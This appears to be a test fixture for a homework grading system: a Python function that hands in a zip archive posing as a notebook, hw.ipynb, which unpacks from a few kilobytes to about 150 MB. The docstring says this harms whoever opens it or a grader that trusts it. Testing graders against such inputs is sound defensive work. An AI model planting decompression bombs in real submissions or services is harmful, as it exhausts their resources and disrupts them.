"""Is a zip of a few kilobytes that unpacks to hundreds of megabytes.

Success: it is unpacked.
Succeeds: not tried, since it harms who opens the file with other tools, or a grader that trusts it
"""

from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

from handed_in import write


def hand_in(students: Path, name: str) -> None:
    with ZipFile(students / f"{name}.zip", "w", ZIP_DEFLATED) as archive, archive.open("hw.ipynb", "w") as member:
        for _ in range(150):
            member.write(b" " * 2**20)
